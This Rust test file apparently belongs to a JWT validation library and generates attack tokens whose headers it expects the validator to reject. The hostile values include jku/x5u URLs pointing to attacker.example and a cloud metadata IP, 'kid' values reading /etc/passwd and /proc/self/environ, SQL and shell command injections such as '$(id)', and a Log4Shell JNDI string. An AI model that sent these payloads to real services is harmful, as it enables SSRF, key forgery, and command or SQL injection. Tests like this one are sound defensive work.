//! Attacks with headers that select a key, contain a key, or require an extension.

use super::*;

pub(super) fn attacks() -> Vec<Attack> {
    [
        malformed(),
        extensions_and_types(),
        embedded_keys(),
        malicious_kids(),
    ]
    .concat()
}

fn attack_with_header(header: &str, error: TokenError) -> Attack {
    attack(format!("header {header}"), signed(header, CLAIMS), error)
}

fn malformed() -> Vec<Attack> {
    let deep = format!(
        r#"{{"alg":"HS256","x":{}{}}}"#,
        "[".repeat(1_000),
        "]".repeat(1_000)
    );
    let deep_in_objects = format!(
        r#"{{"alg":"HS256","x":{}1{}}}"#,
        r#"{"x":"#.repeat(9),
        "}".repeat(9)
    );
    let many: Vec<_> = (0..100).map(|n| format!(r#""{n}":1"#)).collect();
    let many = format!(r#"{{"alg":"HS256",{}}}"#, many.join(","));
    [
        "",
        "null",
        "true",
        "\"HS256\"",
        "{}",
        "[\"HS256\"]",
        "[\"HS256\",null,null]",
        r#"[{"alg":"HS256"}]"#,
        r#"{"typ":"JWT"}"#,
        r#"{"alg":null}"#,
        r#"{"alg":true}"#,
        r#"{"alg":256}"#,
        r#"{"alg":["HS256"]}"#,
        r#"{"alg":{"name":"HS256"}}"#,
        r#"{"alg":"none","alg":"HS256"}"#,
        r#"{"alg":"HS256","alg":"none"}"#,
        r#"{"alg":"HS256","alg":"HS256"}"#,
        r#"{"alg":"HS256","\u0061lg":"none"}"#,
        r#"{"alg":"HS256","typ":"JWT","typ":"JWT"}"#,
        r#"{"alg":"HS256","kid":"a","kid":"b"}"#,
        r#"{"alg":"HS256","x":1,"x":2}"#,
        r#"{"alg":"HS256","x":{"a":1,"a":2}}"#,
        r#"{"alg":"HS256"}{}"#,
        r#"{"alg":"HS256"} x"#,
        r#"{"alg":"HS256"},"#,
        r#"{"alg":"HS256",}"#,
        r#"{"alg":"HS256""#,
        r"{'alg':'HS256'}",
        r"{alg:'HS256'}",
        r#"{"Alg":"HS256"}"#,
        r#"{"ALG":"HS256"}"#,
        r#"{"alg ":"HS256"}"#,
        "{\"al\0g\":\"HS256\"}",
        "{\"alg\":\"HS256\"}\0",
        "\u{feff}{\"alg\":\"HS256\"}",
        "{\"alg\":\"HS256\"/**/}",
        &deep,
        &deep_in_objects,
        &many,
    ]
    .into_iter()
    .map(|header| attack_with_header(header, TokenError::Header))
    .chain([attack(
        "a header that is not UTF-8",
        signed(b"{\"alg\":\"HS256\",\"x\":\"\xff\"}", CLAIMS),
        TokenError::Header,
    )])
    .collect()
}

/// Returns tokens with extensions (RFC 7515 4.1.11, RFC 7797), with other types (RFC 8725 3.11), and with another token
/// in them.
fn extensions_and_types() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for crit in [
        r"[]",
        r#"["b64"]"#,
        r#"["exp"]"#,
        r#"["alg"]"#,
        r#""exp""#,
        "null",
        "false",
        "{}",
    ] {
        let header = format!(r#"{{"alg":"HS256","crit":{crit},"exp":1}}"#);
        attacks.push(attack_with_header(&header, TokenError::CriticalHeader));
    }
    for b64 in ["false", "true", "null"] {
        let header = format!(r#"{{"alg":"HS256","b64":{b64}}}"#);
        attacks.push(attack_with_header(&header, TokenError::CriticalHeader));
    }
    for typ in [
        r#""JOSE""#,
        r#""JWE""#,
        r#""dpop+jwt""#,
        r#""secevent+jwt""#,
        r#""logout+jwt""#,
        r#""id_token""#,
        r#""application/JOSE""#,
        r#""application/application/JWT""#,
        r#""text/JWT""#,
        r#""/JWT""#,
        r#""JWT;a=b""#,
        r#""JWT ""#,
        r#""""#,
        "null",
        "1",
        "true",
        r#"["JWT"]"#,
        r#"{"typ":"JWT"}"#,
        r#""\u0000JWT""#,
        r#""JW\u0422""#,
    ] {
        let header = format!(r#"{{"alg":"HS256","typ":{typ}}}"#);
        attacks.push(attack_with_header(&header, TokenError::TypeNotAllowed));
    }
    for cty in [
        "JWT",
        "jwt",
        "application/jwt",
        "at+jwt",
        "JWE",
        "JWS",
        "application/jose",
        "application/jose+json",
    ] {
        let header = format!(r#"{{"alg":"HS256","cty":"{cty}"}}"#);
        attacks.push(attack_with_header(&header, TokenError::Nested));
    }
    attacks.push(attack_with_header(
        r#"{"alg":"HS256","cty":7}"#,
        TokenError::Header,
    ));
    for member in [
        r#""enc":"A256GCM""#,
        r#""epk":{"kty":"EC"}"#,
        r#""zip":"DEF""#,
        r#""zip":null"#,
        r#""p2c":1000000000"#,
    ] {
        let header = format!(r#"{{"alg":"HS256",{member}}}"#);
        attacks.push(attack_with_header(&header, TokenError::Encrypted));
    }
    attacks
}

/// Returns tokens with an embedded key (RFC 8725 3.10). They must be rejected even if the signature is valid.
fn embedded_keys() -> Vec<Attack> {
    let jwk = format!(
        r#"{{"kty":"oct","k":"{}"}}"#,
        base64url("the attacker's own secret, of 32 bytes")
    );
    [
        format!(r#"{{"alg":"HS256","jwk":{jwk}}}"#),
        r#"{"alg":"HS256","jwk":null}"#.to_owned(),
        r#"{"alg":"HS256","jku":"https://attacker.example/keys"}"#.to_owned(),
        r#"{"alg":"HS256","jku":"http://169.254.169.254/latest/meta-data"}"#.to_owned(),
        r#"{"alg":"HS256","jku":"file:///dev/zero"}"#.to_owned(),
        r#"{"alg":"HS256","x5u":"https://attacker.example/cert"}"#.to_owned(),
        r#"{"alg":"HS256","x5c":["MIIB"]}"#.to_owned(),
        r#"{"alg":"HS256","\u006aku":"https://attacker.example"}"#.to_owned(),
    ]
    .iter()
    .map(|header| attack_with_header(header, TokenError::EmbeddedKey))
    .collect()
}

/// Returns tokens with malicious `kid`s. A `kid` selects a configured key; it must not be used as a path, a query or a
/// pattern.
fn malicious_kids() -> Vec<Attack> {
    let mut attacks: Vec<_> = [
        "../../../../dev/null",
        "/dev/null",
        "/proc/self/environ",
        "file:///etc/passwd",
        "' union select 'attacker' -- ",
        "'; drop table wts.tickets; --",
        "$(id)",
        "`id`",
        "|id",
        "%00",
        "${jndi:ldap://attacker.example/a}",
        "https://attacker.example/key",
        "*",
        ".*",
        "",
        "ES256 ",
        "es256",
        "\\u0000",
        "\\u202e652SE",
    ]
    .into_iter()
    .map(|kid| {
        let header = format!(r#"{{"alg":"ES256","kid":"{kid}"}}"#);
        let token = PAIRS.sign("ES256", &header, CLAIMS);
        attack(format!("kid {kid:?}"), token, TokenError::UnknownKey)
    })
    .collect();
    for kid in ["null", "7", "true", r#"["ES256"]"#, r#"{"kid":"ES256"}"#] {
        attacks.push(attack_with_header(
            &format!(r#"{{"alg":"HS256","kid":{kid}}}"#),
            TokenError::Header,
        ));
    }
    attacks
}
